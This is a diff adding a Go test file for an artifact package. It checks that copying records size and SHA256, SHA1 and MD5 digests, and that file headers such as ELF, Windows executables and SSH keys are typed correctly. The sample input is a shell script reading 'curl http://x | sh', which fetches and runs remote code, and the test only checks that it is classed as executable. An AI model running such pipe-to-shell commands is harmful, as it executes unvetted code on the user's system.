@@ -0,0 +1,39 @@
+package artifact
+
+import (
+	"bytes"
+	"strings"
+	"testing"
+)
+
+func TestCopy(t *testing.T) {
+	var dst bytes.Buffer
+	d, typ, err := Copy(&dst, strings.NewReader("#!/bin/sh\ncurl http://x | sh\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if dst.Len() != int(d.Size) || d.Size != 29 {
+		t.Errorf("copied %d bytes, size %d, want 29", dst.Len(), d.Size)
+	}
+	if d.SHA256 != "bceb6c4ef4bd4c94708295588dc4aa3ac12d8df215b056548bdcd59badb48713" || !ValidSHA256(d.SHA256) {
+		t.Errorf("sha256 = %q", d.SHA256)
+	}
+	if len(d.SHA1) != 40 || len(d.MD5) != 32 {
+		t.Errorf("digests = %+v", d)
+	}
+	if typ != "text/x-script" || !Executable(typ) {
+		t.Errorf("type = %q, want an executable script", typ)
+	}
+}
+
+func TestDetectType(t *testing.T) {
+	for head, want := range map[string]string{
+		"\x7fELF\x02\x01\x01":  "application/x-elf",
+		"MZ\x90\x00":           "application/x-msdownload",
+		"ssh-ed25519 AAAAC3Nz": "text/plain; charset=utf-8",
+	} {
+		if got := DetectType([]byte(head)); got != want {
+			t.Errorf("DetectType(%q) = %q, want %q", head, got, want)
+		}
+	}
+}